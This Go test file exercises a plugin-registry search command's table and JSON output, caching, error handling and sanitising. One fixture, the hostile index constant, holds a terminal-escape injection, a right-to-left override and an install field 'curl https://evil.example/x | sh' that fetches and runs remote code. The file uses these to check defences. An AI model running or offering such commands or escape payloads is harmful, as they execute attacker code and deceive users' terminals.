package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/corvidlabs/fledge-go/termsafe"
)

// searchFixture runs fledge plugins search in-process against a FLEDGE_HOME
// of its own, with the environment and clock under the test's control.
type searchFixture struct {
	t    *testing.T
	home string
	env  map[string]string
	mu   sync.Mutex
	now  time.Time
	tty  bool
}

func newSearchFixture(t *testing.T) *searchFixture {
	t.Helper()
	home := filepath.Join(t.TempDir(), "fh")
	return &searchFixture{t: t, home: home, now: time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC), env: map[string]string{
		"FLEDGE_HOME": home, "NO_COLOR": "1",
		// Nothing may reach the network unless a test points it somewhere.
		"FLEDGE_GITHUB_API": "http://127.0.0.1:1", "FLEDGE_REGISTRY_URL": "",
	}}
}

func (f *searchFixture) advance(d time.Duration) { f.mu.Lock(); f.now = f.now.Add(d); f.mu.Unlock() }

func (f *searchFixture) fledge(args ...string) (code int, stdout, stderr string) {
	f.t.Helper()
	var out, errOut bytes.Buffer
	s := &IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &errOut, OutTTY: f.tty,
		Getenv: func(k string) string { return f.env[k] }}
	fac := NewFactory(s, "test")
	fac.Now = func() time.Time { f.mu.Lock(); defer f.mu.Unlock(); return f.now }
	code = run(context.Background(), fac, args)
	return code, out.String(), errOut.String()
}

func (f *searchFixture) writeConfig(content string) {
	f.t.Helper()
	if err := os.MkdirAll(f.home, 0o755); err != nil {
		f.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(f.home, "config.toml"), []byte(content), 0o644); err != nil {
		f.t.Fatal(err)
	}
}

func fileURL(t *testing.T, path string) string {
	t.Helper()
	abs, err := filepath.Abs(path)
	if err != nil {
		t.Fatal(err)
	}
	return (&url.URL{Scheme: "file", Path: filepath.ToSlash(abs)}).String()
}

func writeIndex(t *testing.T, doc string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "index.json")
	if err := os.WriteFile(p, []byte(doc), 0o644); err != nil {
		t.Fatal(err)
	}
	return fileURL(t, p)
}

const realIndexPath = "../../../registry/testdata/registry-plugins.json"

func TestSearchTable(t *testing.T) {
	t.Parallel()
	f := newSearchFixture(t)
	f.env["FLEDGE_REGISTRY_URL"] = fileURL(t, realIndexPath)
	code, out, errOut := f.fledge("plugins", "search", "hello")
	if code != 0 {
		t.Fatalf("exit %d, stderr %q", code, errOut)
	}
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("stdout has %d lines, want header + 3:\n%s", len(lines), out)
	}
	if fields := strings.Fields(lines[0]); strings.Join(fields, " ") != "NAME VERSION STARS TIER SOURCE DESCRIPTION" {
		t.Errorf("header = %q", lines[0])
	}
	wantRows := [][]string{
		{"fledge-plugin-hello", "-", "0", "official", "CorvidLabs/fledge-plugin-hello"},
		{"fledge-plugin-hello-rust", "0.1.0", "0", "official", "CorvidLabs/fledge-plugin-hello-rust"},
		{"fledge-plugin-hello-swift", "-", "0", "official", "CorvidLabs/fledge-plugin-hello-swift"},
	}
	for i, want := range wantRows {
		got := strings.Fields(lines[i+1])
		if len(got) < len(want) || !reflect.DeepEqual(got[:len(want)], want) {
			t.Errorf("row %d = %q, want it to start with %q", i, lines[i+1], want)
		}
	}
	if idx := strings.Index(lines[0], "SOURCE"); idx < 0 || lines[1][idx:idx+len("CorvidLabs")] != "CorvidLabs" {
		t.Errorf("columns not aligned:\n%s", out)
	}
	if !strings.Contains(errOut, "Install one with: fledge plugins install <SOURCE>") {
		t.Errorf("stderr = %q", errOut)
	}

	code, out, errOut = f.fledge("plugins", "search", "no", "such", "plugin")
	if code != 0 || out != "" || !strings.Contains(errOut, `No plugins match "no such plugin".`) {
		t.Errorf("no match: exit %d stdout %q stderr %q", code, out, errOut)
	}
}

func TestSearchJSON(t *testing.T) {
	t.Parallel()
	f := newSearchFixture(t)
	f.env["FLEDGE_REGISTRY_URL"] = fileURL(t, realIndexPath)
	code, out, errOut := f.fledge("plugins", "search", "metrics", "--json")
	if code != 0 {
		t.Fatalf("exit %d, stderr %q", code, errOut)
	}
	var doc map[string]any
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("stdout is not one JSON document: %v\n%s", err, out)
	}
	if doc["schema_version"] != float64(1) || len(doc) != 2 {
		t.Errorf("document keys = %v", doc)
	}
	// metrics by name first, then stats, which has the topic.
	plugins, ok := doc["results"].([]any)
	if !ok || len(plugins) != 2 || plugins[1].(map[string]any)["name"] != "fledge-plugin-stats" {
		t.Fatalf("results = %v", doc["results"])
	}
	p := plugins[0].(map[string]any)
	var keys []string
	for k := range p {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	wantKeys := "claimed_trust_tier default_branch description description_text full_name install language name owner plugin_name repo slug source stars topics trust_tier updated_at url version"
	if strings.Join(keys, " ") != wantKeys {
		t.Errorf("plugin fields = %s\nwant %s", strings.Join(keys, " "), wantKeys)
	}
	want := map[string]any{
		"name": "fledge-plugin-metrics", "slug": "metrics", "version": "0.2.1", "trust_tier": "official",
		"claimed_trust_tier": "official", "source": "CorvidLabs/fledge-plugin-metrics",
		"install": "fledge plugins install CorvidLabs/fledge-plugin-metrics", "stars": float64(1),
		"repo": "https://github.com/CorvidLabs/fledge-plugin-metrics", "updated_at": "2026-05-05T14:04:19Z",
		"default_branch": "main", "language": "rust", "owner": "CorvidLabs", "full_name": "CorvidLabs/fledge-plugin-metrics",
		"url": "https://github.com/CorvidLabs/fledge-plugin-metrics", "plugin_name": "fledge-plugin-metrics",
	}
	for k, v := range want {
		if p[k] != v {
			t.Errorf("%s = %v, want %v", k, p[k], v)
		}
	}

	_, out, _ = f.fledge("plugins", "search", "nothing-matches-this", "--json")
	if strings.TrimSpace(out) != "{\n  \"schema_version\": 1,\n  \"results\": []\n}" {
		t.Errorf("empty result = %q, want an empty array", out)
	}
}

// hostileIndex is what a malicious index might serve.
const hostileIndex = `[
 {"name":"fledge-plugin-evil\u001b[2J\u001b]0;owned\u0007","slug":"evil","version":"1.0.0\u202e",
  "description":"Totally safe \u001b[31mred\u001b[0m\u202etxt.exe\n` + "%s" + `",
  "trust_tier":"official","install":"curl https://evil.example/x | sh",
  "repo":"https://github.com/evil/fledge-plugin-evil","topics":["\u001b[5mblink"],"stars":3},
 {"name":"fledge-plugin-teamy","repo":"https://github.com/Acme/fledge-plugin-teamy"}
]`

func TestSearchHostileIndex(t *testing.T) {
	t.Parallel()
	f := newSearchFixture(t)
	f.tty = true
	f.writeConfig("[trust]\norgs = [\"acme\"]\n")
	f.env["FLEDGE_REGISTRY_URL"] = writeIndex(t, strings.Replace(hostileIndex, "%s", strings.Repeat("A", 5000), 1))

	code, out, errOut := f.fledge("plugins", "search")
	if code != 0 {
		t.Fatalf("exit %d, stderr %q", code, errOut)
	}
	for _, bad := range []string{"\x1b", "\u202e", "\a", "curl"} {
		if strings.Contains(out, bad) || strings.Contains(errOut, bad) {
			t.Errorf("output contains %q:\n%s", bad, out)
		}
	}
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("want header + 2 rows:\n%s", out)
	}
	for _, l := range lines {
		if n := utf8.RuneCountInString(l); n > 200 {
			t.Errorf("a table row is %d runes: descriptions are not truncated on a terminal", n)
		}
	}
	evil, team := strings.Fields(lines[1]), strings.Fields(lines[2])
	// A terminal whose size cannot be read counts as 80 columns: the
	// source is cut to fit, not the tier.
	for _, l := range lines {
		if w := termsafe.Width(l); w > 80 {
			t.Errorf("a row is %d columns on an 80-column terminal: %q", w, l)
		}
	}
	if len(evil) < 5 || evil[3] != "unverified" || !strings.HasPrefix(evil[4], "evil/fledge") {
		t.Errorf("the index's own trust claim leaked into the table: %q", lines[1])
	}
	if len(team) < 4 || team[3] != "team" {
		t.Errorf("trusted org not shown as team: %q", lines[2])
	}

	code, out, _ = f.fledge("plugins", "search", "--json")
	if code != 0 || strings.Contains(out, `\u001b`) || strings.Contains(out, "\u202e") || strings.Contains(out, `\u0007`) {
		t.Errorf("JSON carries escapes (exit %d):\n%.400s", code, out)
	}
	var doc searchDoc
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	p := doc.Results[0]
	if p.TrustTier != "unverified" || p.ClaimedTrustTier != "official" || p.Install != "fledge plugins install evil/fledge-plugin-evil" {
		t.Errorf("plugin = %+v", p)
	}
	if len(p.Description) < 5000 || p.Description != p.DescriptionText {
		t.Errorf("JSON description truncated to %d bytes", len(p.Description))
	}
}

// indexServer serves an index on loopback, or fails as told.
type indexServer struct {
	mu     sync.Mutex
	body   string
	status int
	srv    *httptest.Server
}

func newIndexServer(t *testing.T, body string) *indexServer {
	t.Helper()
	s := &indexServer{body: body}
	s.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		if s.status != 0 {
			w.WriteHeader(s.status)
			return
		}
		w.Header().Set("ETag", `"1"`)
		if r.Header.Get("If-None-Match") == `"1"` {
			w.WriteHeader(http.StatusNotModified)
			return
		}
		_, _ = w.Write([]byte(s.body))
	}))
	t.Cleanup(s.srv.Close)
	return s
}

func closedURL(t *testing.T) string {
	t.Helper()
	srv := httptest.NewServer(http.NotFoundHandler())
	u := srv.URL
	srv.Close()
	return u
}

func jsonErrorOf(t *testing.T, out string) jsonError {
	t.Helper()
	var doc jsonErrorDoc
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("stdout is not a JSON error document: %v\n%s", err, out)
	}
	if doc.SchemaVersion != 1 {
		t.Errorf("schema_version = %d", doc.SchemaVersion)
	}
	return doc.Error
}

func TestSearchUnavailable(t *testing.T) {
	t.Parallel()
	f := newSearchFixture(t)
	f.env["FLEDGE_REGISTRY_URL"] = closedURL(t) + "/index.json"
	code, out, errOut := f.fledge("plugins", "search", "x", "--json")
	if code != ExitFailure {
		t.Errorf("exit = %d, want %d", code, ExitFailure)
	}
	if e := jsonErrorOf(t, out); e.Code != CodeRegistryUnavailable || !strings.Contains(e.Hint, "FLEDGE_REGISTRY_URL") {
		t.Errorf("error = %+v", e)
	}
	if !strings.Contains(errOut, "error: registry unavailable") {
		t.Errorf("stderr = %q", errOut)
	}
}

func TestSearchStaleCacheNote(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile(realIndexPath)
	if err != nil {
		t.Fatal(err)
	}
	f := newSearchFixture(t)
	s := newIndexServer(t, string(data))
	f.env["FLEDGE_REGISTRY_URL"] = s.srv.URL + "/index.json"
	if code, _, errOut := f.fledge("plugins", "search", "deps"); code != 0 || strings.Contains(errOut, "note:") {
		t.Fatalf("first search: exit %d, stderr %q", code, errOut)
	}
	s.srv.Close()
	f.advance(2*time.Hour + time.Minute)
	code, out, errOut := f.fledge("plugins", "search", "deps", "--json")
	if code != 0 {
		t.Fatalf("the cache did not answer: exit %d, stderr %q", code, errOut)
	}
	var doc searchDoc
	if err := json.Unmarshal([]byte(out), &doc); err != nil || len(doc.Results) != 1 {
		t.Fatalf("stale JSON: %v\n%s", err, out)
	}
	if !strings.Contains(errOut, "note: could not refresh the registry index (") || !strings.Contains(errOut, "showing the cached copy from 2 hours ago") {
		t.Errorf("stderr = %q", errOut)
	}
}

func TestSearchMalformedIndex(t *testing.T) {
	t.Parallel()
	f := newSearchFixture(t)
	s := newIndexServer(t, `[{"name":"fledge-plugin-a","repo":"https://github.com/o/a"},{"name":"fledge-plugin-b"}]`)
	f.env["FLEDGE_REGISTRY_URL"] = s.srv.URL + "/index.json"
	code, out, _ := f.fledge("plugins", "search", "--json")
	e := jsonErrorOf(t, out)
	if code != ExitFailure || e.Code != CodeRegistryInvalid {
		t.Errorf("exit %d error %+v", code, e)
	}
	if want := `registry index at ` + s.srv.URL + `/index.json: entry 2 ("fledge-plugin-b"): missing repo`; e.Message != want {
		t.Errorf("message = %q\nwant %q", e.Message, want)
	}
}

func TestSearchGitHub(t *testing.T) {
	t.Parallel()
	const token = "ghp_SEARCHTESTTOKEN"
	var mu sync.Mutex
	var auth, q []string
	limited := false
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		auth = append(auth, r.Header.Get("Authorization"))
		q = append(q, r.URL.Query().Get("q"))
		lim := limited
		mu.Unlock()
		if lim {
			w.Header().Set("X-RateLimit-Remaining", "0")
			w.WriteHeader(http.StatusForbidden)
			return
		}
		_, _ = w.Write([]byte(`{"total_count":1,"items":[{"name":"fledge-plugin-tz","description":"Time zones",
			"html_url":"https://github.com/someone/fledge-plugin-tz","stargazers_count":4,"language":"Go",
			"topics":["fledge-plugin"],"pushed_at":"2026-05-05T14:04:36Z","default_branch":"main"}]}`))
	}))
	t.Cleanup(srv.Close)

	f := newSearchFixture(t)
	f.env["FLEDGE_GITHUB_API"] = srv.URL
	f.env["GH_TOKEN"] = token
	code, out, errOut := f.fledge("plugins", "search", "tz")
	if code != 0 {
		t.Fatalf("exit %d, stderr %q", code, errOut)
	}
	row := strings.Fields(strings.Split(out, "\n")[1])
	if strings.Join(row[:5], " ") != "fledge-plugin-tz - 4 unverified someone/fledge-plugin-tz" {
		t.Errorf("row = %q", row)
	}
	mu.Lock()
	if auth[0] != "Bearer "+token || q[0] != "topic:fledge-plugin tz" {
		t.Errorf("request: auth set %v, q %q", auth[0] != "", q[0])
	}
	limited = true
	mu.Unlock()

	delete(f.env, "GH_TOKEN")
	code, out, errOut = f.fledge("plugins", "search", "tz", "--json")
	e := jsonErrorOf(t, out)
	if code != ExitFailure || e.Code != CodeRegistryUnavailable || !strings.Contains(e.Hint, "GH_TOKEN") {
		t.Errorf("rate limited: exit %d error %+v", code, e)
	}
	if strings.Contains(out+errOut, token) {
		t.Error("the token was printed")
	}
}

func TestSearchUsage(t *testing.T) {
	t.Parallel()
	f := newSearchFixture(t)
	code, _, errOut := f.fledge("plugins", "search", strings.Repeat("q", 300))
	if code != ExitUsage || !strings.Contains(errOut, "at most 256 bytes") {
		t.Errorf("long query: exit %d stderr %q", code, errOut)
	}
	f.env["FLEDGE_REGISTRY_URL"] = "ftp://example.com/index.json"
	code, _, errOut = f.fledge("plugins", "search")
	if code != ExitFailure || !strings.Contains(errOut, "want http://, https:// or file://") {
		t.Errorf("bad registry URL: exit %d stderr %q", code, errOut)
	}
}
